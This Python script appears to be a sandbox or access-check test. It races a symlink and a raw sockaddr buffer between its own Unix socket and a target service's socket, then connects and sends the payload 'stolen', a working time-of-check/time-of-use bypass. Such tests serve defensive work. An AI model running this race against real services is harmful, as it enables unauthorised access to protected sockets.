"""Connect to a socket of one's own by words, and by a link, that lead to a service's when it is looked at once more."""

import contextlib
import ctypes
import json
import os
import socket
import struct
import sys
import threading
import time

theirs = json.loads(sys.argv[1])["socket"]
own = os.path.abspath("own")
libc = ctypes.CDLL(None)
with contextlib.suppress(OSError):
    listening = socket.socket(socket.AF_UNIX)
    listening.bind(own)
    listening.listen(500)
words = {path: struct.pack("=H", socket.AF_UNIX) + path.encode().ljust(107, b"\0") for path in (own, theirs)}
address = ctypes.create_string_buffer(109)
link = os.path.abspath("link")
swaps = 0
ended = threading.Event()


def swap() -> None:
    global swaps
    while not ended.is_set():
        for path in (own, theirs):
            ctypes.memmove(address, words[path], 109)
            os.symlink(path, f"{link}-new")
            os.rename(f"{link}-new", link)
            swaps += 1


def wait_for_a_swap() -> None:
    seen = swaps
    while swaps == seen:
        time.sleep(0)


os.symlink(own, link)
swapping = threading.Thread(target=swap)
swapping.start()
for number in range(40):
    wait_for_a_swap()
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as mine:
        mine.setblocking(False)
        if number % 2:
            libc.connect(mine.fileno(), address, 109)
        else:
            mine.connect(link)
        mine.sendall(b"stolen")
ended.set()
swapping.join()
